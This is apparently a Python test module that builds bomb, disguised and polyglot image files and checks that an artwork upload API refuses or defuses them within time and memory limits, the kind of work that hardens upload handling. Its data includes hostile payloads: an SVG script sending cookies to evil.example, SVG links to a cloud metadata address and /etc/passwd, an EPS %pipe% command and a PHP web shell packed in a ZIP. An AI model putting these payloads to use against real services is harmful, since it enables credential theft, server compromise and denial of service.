"""Hostile uploads: a corpus made in code (pixel bombs, a zTXt and an iCCP bomb, EPS and SVG named .png,
polyglots, truncated and empty files, a file over the size limit) and 50 benign print files (CMYK with a
profile, EXIF orientations 1–8, every mode and format we take), POSTed to /v1/artwork on the API running as a
uvicorn process; each request's wall time and the API process's peak RSS during it are measured
(/proc/PID/clear_refs resets the peak before each upload)."""

from __future__ import annotations

import io
import os
import random
import struct
import sys
import time
import zipfile
import zlib
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import numpy as np
from PIL import Image

from adapters.objectstore import LocalVersionedStore
from battery.framework import Context, Figure
from tests.conftest import TEST_KEYS
from tests.integration.production_helpers import ROOT, Processes, free_port
from tests.unit.test_artwork import (
    cmyk_profile_where_cyan_prints_red,
    encode,
    png_chunk,
    png_chunk_types,
    png_from_parts,
    quadrants,
    tiff_header_claiming,
)

TIME_LIMIT_S = 2.0
MEMORY_LIMIT_MB = 512
METADATA_CHUNKS = {b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP", b"tIME"}
# what an EXIF orientation means, as the transpose that makes the stored pixels upright (None: already upright)
UPRIGHT = {1: None, 2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180,
           4: Image.Transpose.FLIP_TOP_BOTTOM, 5: Image.Transpose.TRANSPOSE, 6: Image.Transpose.ROTATE_270,
           7: Image.Transpose.TRANSVERSE, 8: Image.Transpose.ROTATE_90}
_T = Image.Transpose
INVERSE = {None: None, _T.FLIP_LEFT_RIGHT: _T.FLIP_LEFT_RIGHT, _T.ROTATE_180: _T.ROTATE_180,
           _T.FLIP_TOP_BOTTOM: _T.FLIP_TOP_BOTTOM, _T.TRANSPOSE: _T.TRANSPOSE, _T.ROTATE_270: _T.ROTATE_90,
           _T.TRANSVERSE: _T.TRANSVERSE, _T.ROTATE_90: _T.ROTATE_270}


@dataclass(frozen=True, slots=True)
class Sample:
    name: str
    filename: str
    data: bytes
    expect: str  # a refusal code, "defused" (accepted with the bomb gone), or "accepted"
    upright: tuple[int, int] | None = None  # benign: the size the stored image must have
    red_corner: bool = False  # benign: the stored image's top-left pixel must be red (orientation applied)
    red_centre: bool = False  # benign: CMYK cyan in a profile where cyan prints red must come out red


@dataclass
class Result:
    sample: Sample
    status: int
    code: str
    seconds: float
    peak_mb: float
    artwork_id: str | None = None
    problems: list[str] = field(default_factory=list)


# ---- the corpus -------------------------------------------------------------------------------------------------


def _zero_stream(size: int) -> bytes:
    """zlib of `size` zero bytes, compressed in pieces so the bomb is never held whole."""
    packer, out, piece = zlib.compressobj(9), [], bytes(1 << 20)
    for _ in range(size >> 20):
        out.append(packer.compress(piece))
    out.append(packer.compress(bytes(size & ((1 << 20) - 1))))
    out.append(packer.flush())
    return b"".join(out)


def _png_decompression_bomb(side: int) -> bytes:
    """A real 1-bit PNG of side × side zeros: a few tens of KB that decode to side² pixels."""
    rows = _zero_stream((1 + (side + 7) // 8) * side)
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def _small_png() -> bytes:
    return encode(Image.new("RGB", (1200, 1200), (200, 40, 40)), "PNG")


def _with_chunk_before_idat(png: bytes, chunk: bytes) -> bytes:
    at = png.index(b"IDAT") - 4
    return png[:at] + chunk + png[at:]


def _jpeg(size=(1200, 900), colour=(30, 90, 200)) -> bytes:
    return encode(Image.new("RGB", size, colour), "JPEG", quality=90)


def _jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose SOF header is patched to claim another size."""
    data = bytearray(_jpeg((64, 64)))
    at = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def _zip(name: str, payload: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, payload)
    return out.getvalue()


SVG_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">'
              b'<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="10" height="10"/></svg>')
SVG_EXTERNAL = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" '
                b'height="40"><image xlink:href="http://169.254.169.254/latest/meta-data/" width="40" height="40"/>'
                b'<image xlink:href="file:///etc/passwd"/></svg>')
EPS = (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n/Times-Roman findfont 12 scalefont setfont\n"
       b"(%pipe%id) (w) file\nshowpage\n%%EOF\n")
HTML = b"<html><body><script>alert(document.domain)</script></body></html>"


def hostile_corpus() -> list[Sample]:
    png, jpeg = _small_png(), _jpeg()
    tiff = encode(Image.new("RGB", (800, 800), (10, 120, 40)), "TIFF")
    gif_bomb = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\xf7\x00\x00" + bytes(768) + \
        b",\x00\x00\x00\x00\xff\xff\xff\xff\x00\x08" + bytes(64) + b";"
    ztxt_bomb = _with_chunk_before_idat(png, png_chunk(b"zTXt", b"Comment\x00\x00" + _zero_stream(200 << 20)))
    iccp_bomb = _with_chunk_before_idat(png, png_chunk(b"iCCP", b"icc\x00\x00" + _zero_stream(200 << 20)))
    return [
        Sample("PNG pixel bomb (header 60000 × 60000)", "bomb.png",
               png_from_parts(width=60000, height=60000, raw_rows=bytes(64)), "too_many_pixels"),
        Sample("PNG decompression bomb (1-bit 40000 × 40000, zeros)", "zeros.png", _png_decompression_bomb(40000),
               "too_many_pixels"),
        Sample("TIFF pixel bomb (100000 × 100000)", "bomb.tif", tiff_header_claiming(100000, 100000),
               "too_many_pixels"),
        Sample("JPEG pixel bomb (SOF 65000 × 65000)", "bomb.jpg", _jpeg_claiming(65000, 65000), "too_many_pixels"),
        Sample("GIF pixel bomb (65535 × 65535)", "bomb.gif", gif_bomb, "unsupported_format"),
        Sample("GIF bomb named .png", "bomb.png", gif_bomb, "unsupported_format"),
        Sample("zTXt bomb (200 MB of text in a PNG)", "ztxt.png", ztxt_bomb, "defused"),
        Sample("iCCP bomb (200 MB profile in a PNG)", "iccp.png", iccp_bomb, "truncated"),
        Sample("EPS named .png", "art.png", EPS, "unsupported_format"),
        Sample("SVG with a script, named .png", "art.png", SVG_SCRIPT, "unsupported_format"),
        Sample("SVG with external references", "art.svg", SVG_EXTERNAL, "unsupported_format"),
        Sample("HTML named .jpg", "art.jpg", HTML, "unsupported_format"),
        Sample("PDF named .png", "art.png", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "unsupported_format"),
        Sample("ZIP named .png", "art.png", _zip("a.txt", b"hello"), "unsupported_format"),
        Sample("WebP", "art.webp", encode(Image.new("RGB", (64, 64)), "WEBP"), "unsupported_format"),
        Sample("JPEG + HTML polyglot", "art.jpg", jpeg + HTML, "polyglot"),
        Sample("JPEG + ZIP polyglot", "art.jpg", jpeg + _zip("payload.php", b"<?php system($_GET['c']); ?>"),
               "polyglot"),
        Sample("PNG + ZIP polyglot", "art.png", png + _zip("x.js", b"alert(1)"), "polyglot"),
        Sample("PNG + HTML after IEND", "art.png", png + HTML, "polyglot"),
        Sample("truncated PNG (half)", "art.png", png[: len(png) // 2], "truncated"),
        Sample("truncated JPEG (half)", "art.jpg", jpeg[: len(jpeg) // 2], "truncated"),
        Sample("truncated TIFF (half)", "art.tif", tiff[: len(tiff) // 2], "truncated"),
        Sample("PNG signature only", "art.png", png[:8], "truncated"),
        Sample("empty file", "art.png", b"", "empty_file"),
        Sample("file over the 50 MB limit", "huge.png", png + bytes(50 * 1024 * 1024), "too_large"),
    ]


def benign_corpus(count: int = 50, seed: int = 8) -> list[Sample]:
    """EXIF orientations 1–8, CMYK with and without a profile, and print files in every mode we take."""
    rng = random.Random(seed)
    samples = []
    for orientation in range(1, 9):
        upright = quadrants((1600, 800))
        inverse = INVERSE[UPRIGHT[orientation]]
        stored = upright.transpose(inverse) if inverse is not None else upright
        exif = Image.Exif()
        exif[0x0112] = orientation
        samples.append(Sample(f"JPEG with EXIF orientation {orientation}", f"o{orientation}.jpg",
                              encode(stored, "JPEG", quality=92, exif=exif.tobytes()), "accepted",
                              upright=upright.size, red_corner=True))
    cmyk = Image.new("CMYK", (1200, 1200), (255, 0, 0, 0))
    samples.append(Sample("CMYK JPEG with an ICC profile (cyan prints red)", "cmyk.jpg",
                          encode(cmyk, "JPEG", quality=95, icc_profile=cmyk_profile_where_cyan_prints_red()),
                          "accepted", upright=(1200, 1200), red_centre=True))
    samples.append(Sample("CMYK TIFF with an ICC profile (cyan prints red)", "cmyk.tif",
                          encode(cmyk, "TIFF", icc_profile=cmyk_profile_where_cyan_prints_red()), "accepted",
                          upright=(1200, 1200), red_centre=True))
    samples.append(Sample("CMYK JPEG without a profile", "cmyk-plain.jpg", encode(cmyk, "JPEG", quality=95),
                          "accepted", upright=(1200, 1200)))
    kinds = [("PNG", "RGB"), ("PNG", "RGBA"), ("PNG", "L"), ("PNG", "P"), ("PNG", "I;16"), ("JPEG", "RGB"),
             ("JPEG", "L"), ("TIFF", "RGB"), ("TIFF", "RGBA")]
    n = 0
    while len(samples) < count:
        fmt, mode = kinds[n % len(kinds)]
        width, height = rng.choice([(1000, 1000), (1200, 1600), (1600, 1200), (1500, 1500), (900, 1300)])
        gradient = np.linspace(0, 215, width, dtype=np.float32)[None, :].repeat(height, 0)
        y, x = np.mgrid[0:height, 0:width]
        checks = ((x // (17 + n) + y // 29) % 2 * 40).astype(np.float32)  # a print-like pattern, not noise
        channel = (gradient + checks).clip(0, 255).astype(np.uint8)
        base = Image.fromarray(np.dstack([channel, channel[::-1], np.full_like(channel, 90 + n)]), "RGB")
        image = base.convert("I;16") if mode == "I;16" else base.convert(mode)
        ext = {"PNG": "png", "JPEG": "jpg", "TIFF": "tif"}[fmt]
        params = {"quality": 90} if fmt == "JPEG" else {"compression": "tiff_lzw"} if fmt == "TIFF" else {}
        samples.append(Sample(f"{fmt} {mode} {width} × {height}", f"print-{n}.{ext}", encode(image, fmt, **params),
                              "accepted", upright=(width, height)))
        n += 1
    return samples


# ---- the API under measurement -----------------------------------------------------------------------------------


def _peak_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError("no VmHWM")


def _reset_peak(pid: int) -> None:
    Path(f"/proc/{pid}/clear_refs").write_text("5")


def upload_all(ctx: Context, samples: list[Sample]) -> tuple[list[Result], Path]:
    """Start the API (one uvicorn process, no reloader, so its pid is the server) and POST every sample."""
    port, objects = free_port(), ctx.workdir / "objects"
    env = {**os.environ, **TEST_KEYS, "DATABASE_URL": ctx.pg_url, "REDIS_URL": ctx.redis_url,
           "PYTHONPATH": str(ROOT), "OBJECT_STORE_DIR": str(objects), "PRESSROOM_PROMETHEUS": "0"}
    logs = ctx.workdir / "logs"
    logs.mkdir(exist_ok=True)
    system = Processes(env=env, logs=logs, api_url=f"http://127.0.0.1:{port}")
    results = []
    try:
        system.start("api", str(Path(sys.executable).with_name("uvicorn")), "api.asgi:app", "--host", "127.0.0.1",
                     "--port", str(port), "--workers", "1", "--no-access-log")
        system.wait_http(f"{system.api_url}/healthz")
        pid = system.running["api"].pid
        with httpx.Client(base_url=system.api_url, timeout=60) as client:
            for sample in samples:
                _reset_peak(pid)
                started = time.perf_counter()
                response = client.post("/v1/artwork", files={"file": (sample.filename, sample.data)})
                seconds = time.perf_counter() - started
                body = response.json()
                code = (body.get("errors") or [{}])[0].get("code", "") if response.status_code >= 400 else ""
                results.append(Result(sample=sample, status=response.status_code, code=code, seconds=seconds,
                                      peak_mb=_peak_mb(pid), artwork_id=body.get("id")))
        system.assert_alive()
    finally:
        system.stop()
    return results, objects


def _check_normalised(result: Result, store: LocalVersionedStore) -> list[str]:
    """What is wrong with an accepted upload's stored form (empty when it is a clean, upright sRGB PNG)."""
    sample, problems = result.sample, []
    data = store.get(f"artwork/{result.artwork_id}.png")
    leftovers = set(png_chunk_types(data)) & METADATA_CHUNKS
    if leftovers:
        problems.append(f"metadata kept: {sorted(k.decode() for k in leftovers)}")
    image = Image.open(io.BytesIO(data))
    if image.mode not in ("RGB", "RGBA"):
        problems.append(f"mode {image.mode}")
    if sample.upright and image.size != sample.upright:
        problems.append(f"size {image.size} not {sample.upright}")
    rgb = image.convert("RGB")
    if sample.red_corner and not _close(rgb.getpixel((8, 8)), (255, 0, 0)):
        problems.append(f"top-left {rgb.getpixel((8, 8))}, not red: orientation not applied")
    if sample.red_centre and not _close(rgb.getpixel((600, 600)), (255, 0, 0)):
        problems.append(f"centre {rgb.getpixel((600, 600))}, not red: the CMYK profile was not honoured")
    return problems


def _close(got, want, tolerance: int = 40) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(got, want, strict=False))


def hostile_uploads(ctx: Context) -> list[Figure]:
    """Every hostile upload refused with its specific code (the zTXt bomb: accepted with the text dropped),
    each within 2 s and 512 MB of API RSS; every benign print file accepted and normalised."""
    name = "uploads-hostile"
    hostile, benign = hostile_corpus(), benign_corpus()
    results, objects = upload_all(ctx, hostile + benign)
    store = LocalVersionedStore(objects)
    for result in results:
        if result.status == 201:
            result.problems = _check_normalised(result, store)
    bad_refusals = [(r.sample.name, r.status, r.code) for r in results[:len(hostile)]
                    if r.sample.expect not in ("defused",) and (r.status, r.code) != (422, r.sample.expect)]
    defused = [r for r in results[:len(hostile)] if r.sample.expect == "defused"]
    defused_bad = [(r.sample.name, r.status, r.problems) for r in defused if r.status != 201 or r.problems]
    over = [(r.sample.name, round(r.seconds, 2), round(r.peak_mb)) for r in results[:len(hostile)]
            if r.seconds > TIME_LIMIT_S or r.peak_mb > MEMORY_LIMIT_MB]
    benign_bad = [(r.sample.name, r.status, r.code, r.problems) for r in results[len(hostile):]
                  if r.status != 201 or r.problems]
    hostile_results, benign_results = results[:len(hostile)], results[len(hostile):]
    codes = Counter(r.code or "accepted (defused)" for r in hostile_results)
    worst_t = max(hostile_results, key=lambda r: r.seconds)
    worst_m = max(hostile_results, key=lambda r: r.peak_mb)
    refused = len(hostile) - len(defused) - len(bad_refusals)
    return [
        Figure(test=name, figure=f"hostile refused with their specific code: {refused}/{len(hostile) - len(defused)} "
                                 f"({dict(sorted(codes.items()))})" + (f"; wrong: {bad_refusals}" if bad_refusals
                                                                         else ""),
               pass_figure="100 %", passed=not bad_refusals),
        Figure(test=name, figure=f"zTXt bomb: accepted with its text chunk dropped, never inflated: "
                                 f"{len(defused) - len(defused_bad)}/{len(defused)}"
                                 + (f"; {defused_bad}" if defused_bad else ""),
               pass_figure="text dropped, within 2 s / 512 MB", passed=not defused_bad),
        Figure(test=name, figure=f"slowest hostile {worst_t.seconds:.2f} s ({worst_t.sample.name}); highest API "
                                 f"peak RSS {worst_m.peak_mb:.0f} MB ({worst_m.sample.name})"
                                 + (f"; over: {over}" if over else ""),
               pass_figure=f"each ≤ {TIME_LIMIT_S:.0f} s and ≤ {MEMORY_LIMIT_MB} MB", passed=not over),
        Figure(test=name, figure=f"benign accepted and normalised: {len(benign) - len(benign_bad)}/{len(benign)} "
                                 f"(EXIF 1–8 upright, CMYK+ICC → sRGB, metadata gone)"
                                 + (f"; wrong: {benign_bad}" if benign_bad else ""),
               pass_figure="100 %", passed=not benign_bad),
        Figure(test=name, figure=f"benign: slowest {max(r.seconds for r in benign_results):.2f} s, highest peak "
                                 f"RSS {max(r.peak_mb for r in benign_results):.0f} MB", pass_figure="(reported)",
               passed=True),
    ]
